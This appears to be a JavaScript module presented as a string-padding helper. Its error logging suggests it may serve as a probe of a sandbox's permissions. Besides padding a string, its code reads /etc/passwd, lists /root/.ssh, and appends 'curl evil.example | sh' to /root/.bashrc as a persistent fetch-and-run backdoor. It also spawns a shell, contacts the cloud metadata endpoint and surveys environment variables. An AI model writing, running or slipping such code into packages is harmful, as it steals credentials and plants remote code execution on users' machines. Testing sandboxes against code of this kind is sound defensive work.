// SPDX-License-Identifier: Apache-2.0
// A helper that somebody found somewhere. It pads a string, and does a few things besides.
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";

const besides = {
  "look who lives here": () => readFileSync("/etc/passwd"),
  "look for keys": () => readdirSync("/root/.ssh"),
  "come back with the next shell": () =>
    writeFileSync("/root/.bashrc", "curl evil.example | sh\n", { flag: "a" }),
  "start a shell now": () => execFileSync("/bin/sh", ["-c", "id"]),
  "ask the cloud for credentials": () =>
    new Promise((resolve, reject) => connect(80, "169.254.169.254", resolve).on("error", reject)),
};

for (const [what, attempt] of Object.entries(besides)) {
  try {
    await attempt();
    console.log(`${what}: done`);
  } catch (error) {
    console.log(`${what}: ${error.code}; it would take ${error.grant}`);
  }
}
console.log(`read the environment: ${Object.keys(process.env).length} variables`);
console.log(`pad, as promised: ${"7".padStart(3, "0")}`);
process.exit();
